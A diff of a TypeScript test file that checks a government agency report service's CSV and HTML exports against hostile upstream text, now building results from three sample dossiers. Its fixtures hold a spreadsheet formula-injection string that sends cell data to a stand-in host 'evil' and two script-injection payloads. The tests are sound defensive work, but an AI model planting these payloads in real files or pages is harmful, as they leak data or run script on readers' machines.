@@ -1,6 +1,14 @@
 import { createAgencyDirectory } from '../../src/services/agencies/loadAgencyDirectory';
 import type { ReportJob } from '../../src/services/reports/ReportService';
+import type { NationalDossier } from '../../connectors/model';
+import { HolidayCalendar } from '../../src/services/calendar/HolidayCalendar';
+import { WorkingTimeService } from '../../src/services/calendar/WorkingTimeService';
+import { reportPeriod } from '../../src/services/reports/classifyDossier';
+import { IndicatorAccumulator } from '../../src/services/reports/indicators';
 import { reportCsv, reportHtml } from '../../src/services/reports/outputs';
+import { buildReportResult } from '../../src/services/reports/reportResult';
+import { DEFAULT_REPORT_RULES } from '../../src/services/reports/reportRules';
+import { IndicatorTargets } from '../../src/services/reports/targets';
 
 const hostile = '=HYPERLINK("http://evil/?x="&A1,"click") <script>alert(1)</script>';
 const directory = createAgencyDirectory([
@@ -32,51 +40,63 @@ const job: ReportJob = {
     etaSeconds: 0,
   },
   problems: ['000.00.01.H56: <img src=x onerror=alert(2)> answered the same page twice'],
-  result: {
-    received: 3,
-    byStatus: { '4': 1, '10': 2 },
-    byChannel: { '1': 1, '2': 2 },
-    onTime: { judged: 3, onTime: 2, late: 1, rate: 2 / 3, unknown: 0 },
-    overdue: [
-      {
-        code: '000.00.01.H56-260701-0001',
-        agencyCode: '000.00.01.H56',
-        lateByHours: 5,
-        state: 'LATE',
-      },
-    ],
-    online: { count: 2, rate: 2 / 3 },
-    onTheSpot: { count: 0, rate: 0 },
-    agencies: [
-      {
-        agencyCode: '000.00.01.H56',
-        received: 3,
-        judged: 3,
-        late: 1,
-        onTheSpot: 0,
-        onTimeRate: 2 / 3,
-        overdueRate: 1 / 3,
-        onlineRate: 2 / 3,
-      },
-    ],
-    months: [{ month: '2026-07', received: 3, judged: 3, onTime: 2, rate: 2 / 3 }],
-    complete: false,
-    onTheSpotTargets: [],
-  },
+  result: null,
 };
 
+/** Three dossiers of the hostile agency: resolved early, resolved late, unresolved. */
+async function withResult(): Promise<ReportJob> {
+  const period = reportPeriod('2026-07-01', '2026-09-30', new Date('2026-12-01T00:00:00Z'));
+  const accumulator = new IndicatorAccumulator(
+    new WorkingTimeService(await HolidayCalendar.load(null), directory),
+    period,
+    DEFAULT_REPORT_RULES,
+  );
+  const dossier = (n: number, status: number, ended: string | null) =>
+    ({
+      code: `000.00.01.H56-260701-000${n}`,
+      procedureCode: '1.000001',
+      procedureName: null,
+      fieldCode: 'G15-HT',
+      fieldName: hostile,
+      receivedAt: '2026-07-01T08:00:00+07:00',
+      dueAt: '2026-07-03T17:00:00+07:00',
+      finishedAt: ended,
+      returnedAt: null,
+      status: { code: status, raw: String(status), lossy: false, mayBe: [] },
+      channel: { code: 2, raw: '2' },
+      history: [],
+      supplements: [],
+    }) as unknown as NationalDossier;
+  accumulator.add(dossier(1, 9, '2026-07-02T09:00:00+07:00'), '000.00.01.H56');
+  accumulator.add(dossier(2, 9, '2026-07-10T09:00:00+07:00'), '000.00.01.H56');
+  accumulator.add(dossier(3, 4, null), '000.00.01.H56');
+  return {
+    ...job,
+    result: buildReportResult(accumulator.result(), {
+      period,
+      rules: DEFAULT_REPORT_RULES,
+      complete: false,
+      directory,
+      targets: IndicatorTargets.none(),
+    }),
+  };
+}
+
 describe('Report outputs with hostile upstream text', () => {
-  it('CSV: a name a spreadsheet would run as a formula is neutralised and quoted', () => {
-    const csv = reportCsv(job, directory);
-    const row = csv.split('\r\n')[1] as string;
-    expect(row.startsWith(`000.00.01.H56,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")`)).toBe(
-      true,
+  it('CSV: a name a spreadsheet would run as a formula is neutralised and quoted', async () => {
+    const csv = reportCsv(await withResult(), directory);
+    const agencyRow = csv.split('\r\n').find((line) => line.startsWith('AGENCY,')) as string;
+    expect(agencyRow).toContain(`,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")`);
+    const fieldRow = csv.split('\r\n').find((line) => line.startsWith('FIELD,')) as string;
+    expect(fieldRow).toContain(`,G15-HT,"'=HYPERLINK(`);
+    // Total: 3 to resolve (3 online), 2 resolved (1 early, 1 late), 1 unresolved and overdue.
+    expect(csv.split('\r\n').at(-2)).toBe(
+      'TOTAL,total,,,Tổng cộng,3,3,0,0,2,1,0,1,1,0,1,0,0,0,0,0,0,0,0',
     );
-    expect(csv.split('\r\n').at(-2)).toBe('TOTAL,,3,3,2,1,0.6667,0.6667');
   });
 
-  it('HTML: every upstream text escaped, nothing may load or run', () => {
-    const html = reportHtml(job, directory);
+  it('HTML: every upstream text escaped, nothing may load or run', async () => {
+    const html = reportHtml({ ...(await withResult()), problems: job.problems }, directory);
     expect(html).not.toContain('<script>alert');
     expect(html).not.toContain('<img src=x');
     expect(html).toContain('&lt;img src=x onerror=alert(2)&gt;');
